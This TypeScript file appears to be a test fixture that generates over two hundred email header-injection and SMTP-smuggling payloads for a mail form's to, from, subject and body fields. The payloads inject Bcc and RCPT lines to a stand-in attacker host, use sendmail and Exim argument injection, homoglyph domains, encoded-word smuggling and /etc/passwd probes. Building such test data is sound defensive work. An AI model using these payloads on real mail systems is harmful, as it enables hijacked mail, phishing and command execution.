export type MailField = 'to' | 'subject' | 'body' | 'from';
type MailPayload = { field: MailField; text: string };

/** Line ends in SMTP, in a header or in some decoder on the way. */
const lineEnds = [
  '\r\n',
  '\n',
  '\r',
  '\r\n ',
  '\u2028',
  '\u2029',
  '\u0085',
  '\u000b',
  '\u0000',
  '\u560d\u560a',
  '%0d%0a',
  '=0D=0A',
  '\\r\\n',
  '&#13;&#10;',
];

/** An injected recipient, sender, body or SMTP command. */
const follow = [
  'Bcc: evil@evil.example',
  'Cc: evil@evil.example',
  'To: evil@evil.example',
  'Reply-To: evil@evil.example',
  'Content-Type: text/html\r\n\r\n<script>alert(1)</script>',
  '.\r\nMAIL FROM:<evil@evil.example>\r\nRCPT TO:<evil@evil.example>\r\n' +
    'DATA\r\nSubject: x\r\n\r\nx\r\n.\r\n',
];

/** Addresses that some parser on the way reads as two, none, or another. */
const addresses = [
  'a@lawfirm.co.za,evil@evil.example',
  'a@lawfirm.co.za;evil@evil.example',
  'a@lawfirm.co.za evil@evil.example',
  'a@lawfirm.co.za\tevil@evil.example',
  '<evil@evil.example>a@lawfirm.co.za',
  'a@lawfirm.co.za<evil@evil.example>',
  '"a@lawfirm.co.za" <evil@evil.example>',
  'undisclosed:evil@evil.example;',
  'list: a@lawfirm.co.za, evil@evil.example;',
  '"evil@evil.example x"@lawfirm.co.za',
  'evil@evil.example(a@lawfirm.co.za)',
  'a(x)@lawfirm.co.za(y)evil.example',
  'a@lawfirm.co.za%evil@evil.example',
  '@evil.example:a@lawfirm.co.za',
  'evil.example!a@lawfirm.co.za',
  'a@[127.0.0.1]',
  'a@127.0.0.1',
  'a@localhost',
  'a@l\u0430wfirm.co.za',
  'a@lawfirm。co。za',
  'a@xn--lwfirm-4ve.co.za\u0000.evil.example',
  '=?utf-8?q?evil=40evil.example=2C?=a@lawfirm.co.za',
  'a@lawfirm.co.za> SIZE=1 ORCPT=rfc822;evil@evil.example',
  'a@lawfirm.co.za>\r\nRCPT TO:<evil@evil.example',
  '-oQ/tmp -X/tmp/x evil@evil.example',
  'a@lawfirm.co.za -be ${run{/bin/true}}',
  `a@${'x'.repeat(64)}.co.za`,
  `${'x'.repeat(65)}@lawfirm.co.za`,
  '',
  ' ',
  '@',
  'a@',
  '@lawfirm.co.za',
];

/** Subjects and texts that mean something to a decoder, a mail reader or nodemailer itself. */
const words = [
  '=?utf-8?q?March=0D=0ABcc:_evil=40evil.example?=',
  '=?utf-8?b?DQpCY2M6IGV2aWxAZXZpbC5leGFtcGxl?=',
  '=?utf-7?q?+AA0-+AAo-Bcc:_evil=40evil.example?=',
  '.',
  '..',
  '\r\n.\r\n',
  '\n.\n',
  '\r.\r',
  '\r\n.\r\nQUIT\r\n',
  '--_NmP-\r\nContent-Type: text/html\r\n\r\n<b>x</b>',
  'From evil@evil.example Sat Mar 21 00:00:00 2026',
  '{"path":"/etc/passwd"}',
  'file:///etc/passwd',
  'https://evil.example/steal',
  '${7*7}{{7*7}}<%= 7*7 %>',
  `x${' '.repeat(150)}Bcc: evil@evil.example`,
  '\u202eelpmaxe.live@live :ccB',
  '\ufeffBcc: evil@evil.example',
];

/** Well over two hundred tries to make one mail another one. */
export const mailPayloads: readonly MailPayload[] = [
  ...lineEnds.flatMap((end) =>
    follow.flatMap((text) => [
      { field: 'to' as const, text: `a@lawfirm.co.za${end}${text}` },
      { field: 'subject' as const, text: `March${end}${text}` },
    ]),
  ),
  ...lineEnds.flatMap((end) =>
    follow.slice(-3).map((text) => ({ field: 'body' as const, text: `As agreed.${end}${text}` })),
  ),
  ...addresses.flatMap((text) => [
    { field: 'to' as const, text },
    { field: 'from' as const, text: text.trim() === '' ? 'evil@evil.example' : text },
  ]),
  ...words.flatMap((text) => [
    { field: 'subject' as const, text },
    { field: 'body' as const, text },
  ]),
];
